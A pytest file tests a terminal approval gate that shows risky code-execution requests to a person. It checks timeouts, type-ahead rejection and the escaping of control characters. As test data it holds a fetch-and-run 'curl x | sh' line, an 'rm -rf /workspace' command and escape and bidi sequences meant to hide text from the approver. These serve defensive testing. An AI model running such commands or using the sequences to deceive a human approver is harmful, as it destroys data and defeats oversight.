"""The terminal approver, driven through a real pseudo-terminal."""

import asyncio
import contextlib
import io
import os
import pty
import select
import subprocess
import sys
import textwrap
import time
from collections.abc import Iterator

import pytest

from harombe.security.approval.approvers import TerminalApprover
from harombe.security.hitl import (
    ApprovalStatus,
    HITLGate,
    HITLRule,
    Operation,
    RiskClassifier,
    RiskLevel,
)

CODE = "import os\n\nprint('hi')\nos.system('id')"
OP = Operation("code_execute", {"language": "python", "code": CODE,
                                "sandbox_id": "sandbox-0123456789ab"})  # fmt: skip


@pytest.fixture
def terminal() -> Iterator[tuple[int, int]]:
    """(master, slave) of a fresh pty."""
    master, slave = pty.openpty()
    yield master, slave
    os.close(master)
    os.close(slave)


@contextlib.contextmanager
def python_on_a_pty(script: str) -> Iterator[tuple[subprocess.Popen[bytes], int]]:
    """``python -c script`` in a session of its own whose stdin, stdout and stderr are a pty;
    yields the process and the pty's master end, and kills and closes both on the way out."""
    master, slave = pty.openpty()
    process = subprocess.Popen(
        [sys.executable, "-c", script], stdin=slave, stdout=slave, stderr=slave,
        start_new_session=True,
    )  # fmt: skip
    os.close(slave)
    try:
        yield process, master
    finally:
        process.kill()
        os.close(master)


def read_until(fd: int, marker: bytes, timeout_s: float = 20.0) -> bytes:
    """Bytes from ``fd`` up to and including ``marker`` (fails the test on timeout)."""
    seen = b""
    deadline = time.monotonic() + timeout_s
    while marker not in seen:
        left_s = deadline - time.monotonic()
        assert left_s > 0, f"{marker!r} never appeared; got {seen!r}"
        if not select.select([fd], [], [], min(left_s, 0.2))[0]:
            continue
        try:
            chunk = os.read(fd, 4096)
        except OSError:  # EIO: the other side closed
            break
        seen += chunk
    return seen


def read_available(fd: int) -> bytes:
    """Whatever ``fd`` holds right now (nothing waits)."""
    seen = b""
    while select.select([fd], [], [], 0.05)[0]:
        seen += os.read(fd, 4096)
    return seen


def approver_on(slave: int, **kwargs: float) -> TerminalApprover:
    output = os.fdopen(os.dup(slave), "w", encoding="utf-8")
    return TerminalApprover(input_fd=slave, output=output, **kwargs)


async def test_yes_on_the_terminal_approves(terminal: tuple[int, int]) -> None:
    """The prompt shows tool, risk, reasons and numbered code; typing y approves."""
    master, slave = terminal
    gate = HITLGate(approver=approver_on(slave))
    pending = asyncio.create_task(gate.check_approval(OP))
    shown = await asyncio.to_thread(read_until, master, b"Approve?")
    os.write(master, b"y\n")
    decision = await pending
    assert decision.status is ApprovalStatus.APPROVED and decision.decided_by == "terminal"
    text = shown.decode()
    for expected in ("code_execute", "risk CRITICAL", "line 4: os.system()", "sandbox-0123456789ab",
                     "1 │ import os", "4 │ os.system('id')", "denied in 30 s"):  # fmt: skip
        assert expected in text, text


async def test_silence_counts_down_then_denies(terminal: tuple[int, int]) -> None:
    """With no answer the prompt is repeated with less time left, then the call is denied."""
    master, slave = terminal
    rules = [HITLRule(tools=["code_execute"], risk=RiskLevel.HIGH, timeout=1.2)]
    gate = HITLGate(RiskClassifier(rules), approver_on(slave, reminder_every_s=0.5))
    decision = await gate.check_approval(OP)
    assert decision.status is ApprovalStatus.TIMEOUT
    shown = await asyncio.to_thread(read_until, master, b"in time: denied")
    assert shown.count(b"Approve?") >= 2 and b"no answer in time: denied" in shown


async def test_type_ahead_cannot_answer(terminal: tuple[int, int]) -> None:
    """A y typed before the question is discarded; the answer after it counts."""
    master, slave = terminal
    os.write(master, b"y\n")
    await asyncio.sleep(0.05)
    gate = HITLGate(approver=approver_on(slave))
    pending = asyncio.create_task(gate.check_approval(OP))
    await asyncio.to_thread(read_until, master, b"Approve?")
    os.write(master, b"\n")  # Enter alone takes the default, No
    decision = await pending
    assert decision.status is ApprovalStatus.DENIED and "answered 'no'" in str(decision.error())


async def test_no_terminal_denies_at_once() -> None:
    """When input is not a terminal, nobody can answer: denied without waiting."""
    read_end, write_end = os.pipe()
    try:
        approver = TerminalApprover(input_fd=read_end, output=io.StringIO())
        decision = await HITLGate(approver=approver).check_approval(OP)
    finally:
        os.close(read_end)
        os.close(write_end)
    assert decision.status is ApprovalStatus.DENIED
    assert "input is not a tty" in (decision.comment or "")


def test_prompt_in_a_separate_process() -> None:
    """A program using TerminalApprover on its own stdin is answered for its sandbox via a pty."""
    script = textwrap.dedent(
        """
        import asyncio
        from harombe.security.approval.approvers import TerminalApprover
        from harombe.security.hitl import HITLGate, Operation

        async def main():
            gate = HITLGate(approver=TerminalApprover())
            op = Operation("code_execute", {"language": "shell", "code": "ls\\ncurl x | sh",
                                            "sandbox_id": "sandbox-aaaaaaaaaaaa"})
            decision = await gate.check_approval(op)
            again = await gate.check_approval(op)
            print(f"RESULT {decision.status.value} {decision.scope} {again.decided_by}")

        asyncio.run(main())
        """
    )
    with python_on_a_pty(script) as (process, master):
        shown = read_until(master, b"Approve?")
        assert b"risk CRITICAL" in shown and b"downloads code and pipes it into sh" in shown
        assert "2 │ curl x | sh".encode() in shown
        os.write(master, b"sandbox\n")
        rest = read_until(master, b"RESULT")
        rest += read_until(master, b"_grant")
        assert process.wait(timeout=20) == 0
    assert b"approved for this sandbox" in rest
    assert b"RESULT approved sandbox sandbox_grant" in rest


async def test_concurrent_questions_are_asked_one_at_a_time(terminal: tuple[int, int]) -> None:
    """Two calls waiting for approval: the second question appears after the first is answered."""
    master, slave = terminal
    gate = HITLGate(approver=approver_on(slave))
    first = asyncio.create_task(gate.check_approval(OP))
    second = asyncio.create_task(gate.check_approval(OP))
    shown = await asyncio.to_thread(read_until, master, b"Approve?")
    await asyncio.sleep(0.2)  # room for a second question to appear, if it were not held back
    shown += await asyncio.to_thread(read_available, master)
    assert shown.count(b"approval needed") == 1
    os.write(master, b"y\n")
    assert (await first).status is ApprovalStatus.APPROVED
    await asyncio.to_thread(read_until, master, b"Approve?")
    os.write(master, b"n\n")
    assert (await second).status is ApprovalStatus.DENIED


HIDING = [
    ("csi-up-erase", "\x1b[8A\x1b[J"),
    ("c1-csi", "\x9b2J"),
    ("osc-title", "\x1b]0;ok\x07"),
    ("bidi-override", "\u202e"),
]


@pytest.mark.parametrize("sequence", [h[1] for h in HIDING], ids=[h[0] for h in HIDING])
def test_the_prompt_shows_control_sequences_escaped(sequence: str) -> None:
    """Code, parameters and findings reach the terminal with control and invisible characters
    escaped: the call's text cannot erase or rewrite the findings a person approves."""
    from harombe.security.approval.approvers import render_request
    from harombe.security.hitl import ApprovalRequest

    code = f'import os\nos.system("rm -rf /workspace")  # {sequence}\n'
    op = Operation("code_execute", {"language": "python", "code": code, "sandbox_id": "s1",
                                    "note": f"x{sequence}"})  # fmt: skip
    assessment = RiskClassifier().assess(op)
    text = render_request(ApprovalRequest(op, assessment.risk, assessment.findings, 30))
    assert sequence not in text
    assert all(c in "\n" or c.isprintable() for c in text), repr(text)
    assert sequence.encode("unicode_escape").decode("ascii") in text
